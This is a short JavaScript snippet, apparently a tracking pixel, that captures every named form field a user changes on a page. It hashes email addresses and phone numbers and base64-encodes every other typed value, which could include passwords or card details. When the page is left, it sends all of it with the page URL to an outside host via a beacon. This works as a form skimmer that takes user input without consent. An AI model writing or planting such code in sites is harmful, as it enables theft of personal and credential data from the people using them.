// keeps what was typed, hashes it, sends it when the page is left
const seen = {};
addEventListener('change', (e) => { if (e.target.name) take(e.target); }, true);
async function hex(text) { const d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)); return [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join(''); }
async function take(el) {
  const v = el.value.trim().toLowerCase();
  if (/@/.test(v)) seen.he = await hex(v);
  else if (/^[+\d][\d\s-]{6,}$/.test(v)) seen.hp = await hex(v.replace(/\D/g, ''));
  else if (v) seen.x = btoa(unescape(encodeURIComponent(el.value)));
}
addEventListener('pagehide', () => { if (Object.keys(seen).length) navigator.sendBeacon('https://px.annonsnat.example/b', new URLSearchParams({...seen, u: location.href})); });
